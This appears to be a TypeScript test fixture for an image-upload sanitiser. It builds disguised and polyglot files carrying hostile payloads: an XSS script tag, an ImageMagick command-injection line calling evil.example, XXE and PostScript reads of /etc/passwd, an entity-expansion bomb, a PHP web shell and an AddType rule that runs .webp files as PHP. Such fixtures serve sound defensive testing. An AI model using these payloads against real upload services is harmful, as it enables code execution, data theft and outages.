import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { chunk, EXIF, PNG_MAGIC, photo, png } from './pictures.ts'

type Make = () => Promise<string | Buffer> | string | Buffer

/** What a hostile file would do if anybody opened it as what it is. */
export const PAYLOAD = '<script>alert(document.domain)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${PAYLOAD}</svg>`
const bytes = (text: string) => Buffer.from(text, 'latin1')
const box = (brand: string) => bytes(`\0\0\0\x18ftyp${brand}\0\0\0\0${brand}mif1${PAYLOAD}`)
const riff = (kind: string, rest: Buffer) => {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(rest.length + 4)
  return Buffer.concat([bytes('RIFF'), size, bytes(kind), rest])
}
const pixels = (width: number, height: number) => deflateSync(Buffer.alloc(height * (width + 1)))
const jpeg = () => photo(300, 200).jpeg().toBuffer()

/** The header of a PNG with one byte of it changed. */
function oddPng(at: number, value: number): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(40, 0)
  data.writeUInt32BE(40, 4)
  data.set([8, 0, 0, 0, 0], 8)
  data[at] = value
  const rest = [chunk('IHDR', data), chunk('IDAT', pixels(40, 40)), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([PNG_MAGIC, ...rest])
}

/** What is no picture of ours, however it calls itself. */
export const DISGUISED: Record<string, Make> = {
  'a BMP': () => bytes(`BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0${PAYLOAD}`),
  'an icon': () => bytes(`\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0${PAYLOAD}`),
  'a JPEG 2000': () => bytes(`\0\0\0\x0cjP  \r\n\x87\n${PAYLOAD}`),
  'a JPEG XL': () => bytes(`\xff\x0a${PAYLOAD}`),
  'a JPEG XL in a box': () => bytes(`\0\0\0\x0cJXL \r\n\x87\n${PAYLOAD}`),
  'an HEIC': () => box('heic'),
  'a film': () => box('isom'),
  'a Photoshop file': () => bytes(`8BPS\0\x01${PAYLOAD}`),
  'a PostScript program': () => '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file',
  'instructions for ImageMagick': () => "push graphic-context\nfill 'url(https://evil.example/x\"|id)'",
  'a packed SVG': () => gzipSync(SVG),
  'an SVG in UTF-16': () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SVG, 'utf16le')]),
  'an SVG that reads a file': () =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  'an SVG that unpacks without end': () =>
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><svg>&c;</svg>`,
  'an XHTML page': () => `<html xmlns="http://www.w3.org/1999/xhtml"><head>${PAYLOAD}</head></html>`,
  'a saved page': () => `MIME-Version: 1.0\nContent-Type: multipart/related\n\n${PAYLOAD}`,
  'a PHP page': () => `<?php system($_GET['c']); ?>${PAYLOAD}`,
  'settings of a web server': () => 'AddType application/x-httpd-php .webp',
  'a Flash film': () => bytes(`FWS\x09${PAYLOAD}`),
  'a Java class': () => bytes(`\xca\xfe\xba\xbe\0\0\0\x34${PAYLOAD}`),
  'a WebAssembly program': () => bytes(`\0asm\x01\0\0\0${PAYLOAD}`),
  'a film that begins as a WebP does': () => riff('AVI ', bytes(PAYLOAD)),
  'a WebP without a picture': () => riff('WEBP', bytes('VP8 \0\0\0\0')),
  'a WebP that says 16,384 pixels a side': () =>
    riff('WEBP', bytes('VP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0')),
  'a JPEG of nothing but its ends': () => bytes('\xff\xd8\xff\xd9'),
  'a JPEG of comments': () => bytes(`\xff\xd8\xff\xfe\0\x29${PAYLOAD}\xff\xd9`),
  'a PNG of a palette without colours': () => oddPng(9, 3),
  'a PNG of a colour type that there is not': () => oddPng(9, 5),
  'a PNG of three bits': () => oddPng(8, 3),
  'a PNG packed in another way': () => oddPng(10, 7),
  'a PNG whose header is not its first part': () =>
    Buffer.concat([
      PNG_MAGIC,
      chunk('tEXt', bytes(`Title\0${PAYLOAD}`)),
      png(9, 9, pixels(9, 9)).subarray(8),
    ]),
}

const afterSoi = (picture: Buffer, marker: number, content: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255])
  return Buffer.concat([picture.subarray(0, 2), head, content, picture.subarray(2)])
}
const behind = async (picture: Promise<Buffer>, text: string) => Buffer.concat([await picture, bytes(text)])
const pngWith = (type: string, content: string) => png(64, 64, pixels(64, 64), [chunk(type, bytes(content))])

/** What is a picture and something else as well: only the picture may be left of it. */
export const TWOFOLD: Record<string, Make> = {
  'a JPEG with a script in its comment': async () => afterSoi(await jpeg(), 0xfe, bytes(PAYLOAD)),
  'a JPEG with a script for a colour profile': async () =>
    afterSoi(await jpeg(), 0xe2, bytes(`ICC_PROFILE\0\x01\x01${PAYLOAD}`)),
  'a JPEG with a script in its XMP': async () =>
    afterSoi(await jpeg(), 0xe1, bytes(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PAYLOAD}</x:xmpmeta>`)),
  'a JPEG that is an archive': () => behind(jpeg(), `PK\x03\x04${PAYLOAD}PK\x05\x06${'\0'.repeat(18)}`),
  'a JPEG that is a PHP page': () => behind(jpeg(), `<?php echo 1; ?>${PAYLOAD}`),
  'a JPEG that tells where it was taken': () => photo(300, 200).withExif(EXIF).jpeg().toBuffer(),
  'a JPEG in four inks': () => photo(300, 200).toColourspace('cmyk').jpeg().toBuffer(),
  'a PNG with a script in its title': () => pngWith('tEXt', `Title\0${PAYLOAD}`),
  'a PNG with a script in its XMP': () => pngWith('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${PAYLOAD}`),
  'a PNG that is a page': () => behind(photo(64, 64).png().toBuffer(), PAYLOAD),
  'a PNG that moves': () => pngWith('acTL', '\0\0\0\x02\0\0\0\0'),
  'a PNG of sixteen bits that tells where it was taken': () =>
    photo(64, 64).toColourspace('rgb16').withExif(EXIF).png().toBuffer(),
  'a WebP that is a script': () => behind(photo(64, 64).webp().toBuffer(), PAYLOAD),
  'a WebP that tells where it was taken': () => sharp(PIXEL).resize(64, 64).withExif(EXIF).webp().toBuffer(),
}

/** One grey pixel. */
const PIXEL = png(1, 1, pixels(1, 1))
